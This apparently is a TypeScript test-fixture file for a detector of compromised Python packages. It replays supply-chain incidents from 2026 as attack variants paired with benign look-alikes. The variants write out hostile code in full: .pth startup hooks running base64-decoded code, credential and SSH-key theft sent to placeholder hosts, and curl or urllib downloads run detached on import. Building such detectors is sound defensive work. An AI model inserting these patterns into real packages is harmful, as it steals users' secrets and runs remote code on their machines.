import { wheel } from '../support/wheel.js';
import { COLLECT, ENCODED, HOST, INERT, type Incident, init } from './incident.js';
import { bundledScript, indented, noise, update } from './releases.js';

const BOOT = `import base64, subprocess, sys; subprocess.Popen([sys.executable, "-c", base64.b64decode("${ENCODED}")])`;

const startupFile: Incident = {
  incident: 'litellm 1.82.8 (24 March) and elementary-data 0.23.3 (24 April 2026): a .pth with base64',
  by: 'startup-hook',
  spellings: [
    { name: 'one long line', replay: update({ 'demo_init.pth': `${BOOT}  # ${noise(34_000)}\n` }) },
    {
      name: 'exec of decoded text',
      replay: update({ 'demo.pth': `import base64; exec(base64.b64decode("${ENCODED}"))\n` }),
    },
    {
      name: 'a path first, the line after a tab',
      replay: update({ 'demo.pth': `vendor\nimport\tdemo._boot\n`, 'demo/_boot.py': INERT }),
    },
    {
      name: 'a known hook with a statement appended',
      replay: update(
        { 'demo.pth': 'import coverage; coverage.process_startup(); print("inert")\n' },
        { 'demo.pth': 'import coverage; coverage.process_startup()\n' },
      ),
    },
    {
      name: 'through .data/purelib',
      replay: update({ 'demo-1.0.0.data/purelib/zz.pth': 'import demo._boot\n', 'demo/_boot.py': INERT }),
    },
    {
      name: 'as a .start file',
      replay: update({ 'demo.start': 'demo._boot:go\n', 'demo/_boot.py': 'def go():\n    print("inert")\n' }),
    },
  ],
  twins: [
    { name: 'a .pth that adds a path', replay: update({ 'demo.pth': 'demo_vendor\n' }) },
    { name: 'weights named .pth', replay: update({ 'demo/models/net.pth': 'import torch\n' }) },
    {
      name: 'the hook that was there',
      replay: update({ 'demo/a.py': 'X = 1\n' }, { 'demo.pth': 'import demo._boot\n', 'demo/_boot.py': 'X = 1\n' }),
    },
  ],
};

const soundFile: Incident = {
  incident: 'telnyx 4.87.1 (27 March 2026): a second stage out of the frames of a sound fetched at run time',
  by: 'remote-code',
  spellings: [
    {
      name: 'wave, base64, XOR and exec',
      replay: update({
        'demo/_client.py': `import base64, io, urllib.request, wave\ndef _stage():\n    raw = urllib.request.urlopen("${HOST}/ring.wav").read()\n    with wave.open(io.BytesIO(raw)) as w:\n        frames = w.readframes(w.getnframes())\n    data = base64.b64decode(frames)\n    exec(bytes(b ^ 0x5A for b in data))\n_stage()\n`,
      }),
    },
    {
      name: 'fetched to a file first',
      by: 'decoded-execution',
      replay: update({
        'demo/_client.py': `import base64, urllib.request, wave\nurllib.request.urlretrieve("${HOST}/ring.wav", "/tmp/ring.wav")\nw = wave.open("/tmp/ring.wav", "rb")\nexec(base64.b64decode(w.readframes(9999)))\n`,
      }),
    },
    {
      name: 'through httpx, in a thread',
      replay: update({
        'demo/_client.py': `import base64, io, threading, wave, httpx\ndef run():\n    w = wave.open(io.BytesIO(httpx.get("${HOST}/ring.wav").content))\n    key = 7\n    text = "".join(chr(c ^ key) for c in base64.b64decode(w.readframes(9999)))\n    exec(text)\nthreading.Thread(target=run).start()\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'a player that fetches a sound',
      replay: update({
        'demo/_client.py': `import io, urllib.request, wave\ndef ring(url):\n    return wave.open(io.BytesIO(urllib.request.urlopen(url).read())).getnframes()\n`,
      }),
    },
    { name: 'a sound file of its own', replay: update({ 'demo/ring.wav': noise(40_000) }) },
  ],
};

const credentialSearch: Incident = {
  incident: 'xinference 2.6.0 (22 April 2026): credentials searched on import and sent',
  by: 'secret-exfiltration',
  spellings: [
    {
      name: 'a list of files',
      replay: init(
        `import os, json, urllib.request\nfound = {}\nfor p in ("~/.aws/credentials", "~/.kube/config", "~/.netrc"):\n    try:\n        found[p] = open(os.path.expanduser(p)).read()\n    except OSError:\n        pass\nurllib.request.urlopen("${COLLECT}", data=json.dumps(found).encode())\n`,
      ),
    },
    {
      name: 'the environment',
      replay: init(`import os, requests\nrequests.post("${COLLECT}", json=dict(os.environ))\n`),
    },
    {
      name: 'tokens picked from the environment',
      replay: init(
        `import os, requests\nkeys = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}\nrequests.post("${COLLECT}", data=keys)\n`,
      ),
    },
    {
      name: 'over a socket, from a helper module',
      replay: update({
        'demo/__init__.py': 'from . import core\n',
        'demo/core.py':
          'import socket\nfrom pathlib import Path\ns = socket.socket()\ns.connect(("203.0.113.9", 443))\ns.sendall((Path.home() / ".ssh" / "id_rsa").read_bytes())\n',
      }),
    },
  ],
  twins: [
    {
      name: 'a client that sends its token when called',
      replay: init(
        'import os, requests\ndef ask(url):\n    return requests.post(url, headers={"Authorization": "Bearer " + os.environ["DEMO_TOKEN"]})\n',
      ),
    },
  ],
};

const runtimeScript: Incident = {
  incident: 'lightning 2.6.2 (30 April 2026): a thread on import fetches Bun and runs 11 MB of JavaScript',
  by: 'opaque-payload',
  spellings: [
    {
      name: 'a daemon thread and a hidden folder',
      replay: update({
        'demo/__init__.py':
          'import threading\ndef _go():\n    from ._runtime import start\n    start.main()\nthreading.Thread(target=_go, daemon=True).start()\n',
        'demo/_runtime/__init__.py': '',
        'demo/_runtime/start.py':
          'import os, subprocess\ndef main():\n    here = os.path.dirname(__file__)\n    subprocess.Popen(["bun", "run", os.path.join(here, "router_runtime.js")])\n',
        'demo/_runtime/router_runtime.js': bundledScript(11_000_000),
      }),
    },
    {
      name: 'called by another name, run by node at the top',
      replay: update({
        'demo/__init__.py': 'import os\nos.system("node " + os.path.dirname(__file__) + "/data.bin")\n',
        'demo/data.bin': bundledScript(3_000_000),
      }),
    },
    {
      name: 'an archive that is unpacked and run',
      replay: update({
        'demo/__init__.py':
          'import os, runpy, sys\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "core.pyz"))\n',
        'demo/core.pyz': Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(noise(300_000))]),
      }),
    },
  ],
  twins: [
    {
      name: 'a larger bundle of a widget that was there',
      replay: update(
        { 'demo/static/widget.js': bundledScript(3_000_000) },
        { 'demo/static/widget.js': bundledScript(2_000_000) },
      ),
    },
    { name: 'a small script for a page', replay: update({ 'demo/static/page.js': 'console.log("hello");\n' }) },
  ],
};

const fetchArchive = (run: string): string =>
  `import os, platform, subprocess, sys\nif platform.system() == "Linux" and not os.path.exists("/tmp/t.pyz"):\n    try:\n${indented(indented(run))}    except Exception:\n        pass\n`;

const importDownload: Incident = {
  incident:
    'mistralai 2.4.6 and guardrails-ai 0.10.1 (11 May 2026): curl without certificate checks, then a detached start',
  by: 'download-and-run',
  spellings: [
    {
      name: 'curl and Popen',
      replay: update({
        'demo/client/__init__.py': fetchArchive(
          `subprocess.run(["curl", "-k", "-sL", "${HOST}/t.pyz", "-o", "/tmp/t.pyz"])\nsubprocess.Popen([sys.executable, "/tmp/t.pyz"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n`,
        ),
      }),
    },
    {
      name: 'one shell line with nohup',
      replay: init(
        fetchArchive(
          `os.system("curl -ks http://203.0.113.7/t.pyz -o /tmp/t.pyz && nohup python3 /tmp/t.pyz >/dev/null 2>&1 &")\n`,
        ),
      ),
    },
    {
      name: 'urlopen without certificate checks',
      replay: init(
        `import ssl, subprocess, sys, urllib.request\nc = ssl._create_unverified_context()\nwith open("/tmp/t.pyz", "wb") as f:\n    f.write(urllib.request.urlopen("${HOST}/t.pyz", context=c).read())\nsubprocess.Popen([sys.executable, "/tmp/t.pyz"], start_new_session=True)\n`,
      ),
    },
    {
      name: 'a short file name',
      replay: init(
        `import os, urllib.request\nurllib.request.urlretrieve("${HOST}/a", "/tmp/a")\nos.chmod("/tmp/a", 0o755)\nos.system("/tmp/a")\n`,
      ),
    },
    {
      name: 'through a temporary name and a helper in another module',
      by: 'download-and-run',
      replay: update({
        'demo/__init__.py':
          'from .net import grab\nimport subprocess, sys\nsubprocess.Popen([sys.executable, grab()])\n',
        'demo/net.py': `import tempfile, urllib.request\ndef grab():\n    path = tempfile.mktemp(suffix=".pyz")\n    urllib.request.urlretrieve("${HOST}/t.pyz", path)\n    return path\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'a download with a checksum, when called',
      replay: init(
        `import hashlib, urllib.request\ndef fetch(url, path, digest):\n    urllib.request.urlretrieve(url, path)\n    with open(path, "rb") as f:\n        assert hashlib.sha256(f.read()).hexdigest() == digest\n    return path\n`,
      ),
    },
    {
      name: 'a program that is asked for its version, when called',
      replay: init('import subprocess\ndef version():\n    return subprocess.check_output(["git", "--version"])\n'),
    },
  ],
};

const ROPE = `import subprocess, sys, urllib.request\ndef _load():\n    urllib.request.urlretrieve("${HOST}/rope.pyz", "/tmp/rope.pyz")\n    subprocess.Popen([sys.executable, "/tmp/rope.pyz"], start_new_session=True)\n_load()\n`;

const spreadingFiles: Incident = {
  incident: 'durabletask 1.4.1–1.4.3 (19 May 2026): the same download in more and more package bodies',
  by: 'download-and-run',
  spellings: [
    { name: 'in the package body', replay: init(ROPE) },
    {
      name: 'in three packages below it',
      replay: update({
        'demo/task/__init__.py': ROPE,
        'demo/entities/__init__.py': ROPE,
        'demo/payload/__init__.py': ROPE,
      }),
    },
    {
      name: 'one more place than the release before',
      replay: update({ 'demo/task/__init__.py': ROPE }, { 'demo/__init__.py': ROPE }),
    },
    {
      name: 'by a decorator on import',
      replay: init(
        `import os, requests\ndef register(f):\n    open("/tmp/rope.sh", "wb").write(requests.get("${HOST}/rope.sh").content)\n    os.system("sh /tmp/rope.sh")\n    return f\n@register\ndef task():\n    pass\n`,
      ),
    },
  ],
  twins: [
    {
      name: 'the package bodies import more of their own',
      replay: update({
        'demo/__init__.py': 'from . import task\n',
        'demo/task/__init__.py': 'from dataclasses import dataclass\n',
      }),
    },
  ],
};

const genuineRuntime: Incident = {
  incident: '“Hades” (June 2026): a -setup.pth fetches the genuine Bun and runs the bundled _index.js',
  by: 'startup-hook',
  spellings: [
    {
      name: 'one exec line',
      replay: update({
        'demo-setup.pth':
          'import os;exec(\'import os,urllib.request,subprocess\\nurllib.request.urlretrieve("https://files.example.invalid/bun.zip","/tmp/bun.zip")\\nos.system("unzip -o /tmp/bun.zip -d /tmp && /tmp/bun/bun run _index.js")\')\n',
        'demo/_index.js': bundledScript(1_500_000),
      }),
    },
    {
      name: 'the work in a module',
      replay: update({
        'demo-setup.pth': 'import demo._setup\n',
        'demo/_setup.py': `import subprocess, urllib.request\nurllib.request.urlretrieve("${HOST}/bun", "/tmp/bun-rt")\nsubprocess.Popen(["/tmp/bun-rt", "run", "_index.js"])\n`,
        'demo/_index.js': bundledScript(1_500_000),
      }),
    },
    {
      name: 'in one wheel of two',
      replay: {
        base: [wheel({}, { version: '0.9.0' })],
        head: [
          wheel(),
          wheel({ 'demo-setup.pth': 'import demo._setup\n' }, { tags: 'cp312-cp312-manylinux_2_17_x86_64' }),
        ],
      },
    },
  ],
  twins: [
    {
      name: 'a namespace hook of setuptools’ making',
      replay: update({
        'demo-nspkg.pth':
          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo', types.ModuleType('demo'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
      }),
    },
  ],
};

/** 24 March to June 2026. */
export const LATE: readonly Incident[] = [
  startupFile,
  soundFile,
  credentialSearch,
  runtimeScript,
  importDownload,
  spreadingFiles,
  genuineRuntime,
];
